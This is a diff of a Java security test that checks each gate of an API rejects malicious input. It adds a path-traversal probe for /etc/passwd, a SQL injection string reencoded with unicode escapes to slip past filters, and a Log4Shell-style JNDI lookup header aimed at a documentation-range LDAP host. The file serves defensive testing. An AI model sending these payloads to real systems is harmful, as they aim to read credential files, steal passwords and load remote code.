@@ -25,13 +25,19 @@ final class GateScenarioTest {
   void each_gate_that_enforces_something_refuses_what_is_wrong_for_it_alone() {
     Map<String, Reply> refusals = new LinkedHashMap<>();
     refusals.put("edge", RUN.ann.get("/v1/nothing"));
+    refusals.put("waf", RUN.ann.get(ALL + "?cursor=../../../etc/passwd"));
     refusals.put("token", RUN.http.send("GET", ALL, List.of(key), NOTHING));
     refusals.put("plan", RUN.http.send("GET", ALL, List.of(token), NOTHING));
     refusals.put("schema", RUN.ann.submit("{}"));
     refusals.put("input", RUN.ann.submit(good().put("contactEmail", "nobody")));
     refusals.put(
         "inspection",
-        RUN.ann.submit(good().put("description", "x' UNION SELECT password FROM users --")));
+        RUN.ann.submit(
+            good()
+                .put("description", "x' UNION SELECT password FROM users --")
+                .toString()
+                .replace("'", "\\u0027")
+                .replace("UNION SELECT", "\\u0055NION \\u0053ELECT")));
     refusals.put("domain", RUN.ann.get(one(UNKNOWN)));
 
     assertThat(refusals.keySet()).containsExactlyElementsOf(names(true));
@@ -40,11 +46,12 @@ final class GateScenarioTest {
   }
 
   @Test
-  void what_only_a_gate_that_enforces_nothing_would_refuse_passes() {
+  void every_gate_enforces_something() {
     Reply probe = RUN.ann.get(ALL + "?limit=1", "X-Probe: ${jndi:ldap://192.0.2.1/a}");
 
-    assertThat(names(false)).containsExactly("waf");
-    assertThat(probe.status()).isEqualTo(200);
+    assertThat(names(false)).isEmpty();
+    assertThat(probe.status()).isEqualTo(403);
+    assertThat(probe.json().path("gate").asText()).isEqualTo("waf");
   }
 
   private static List<String> names(boolean enforcing) {
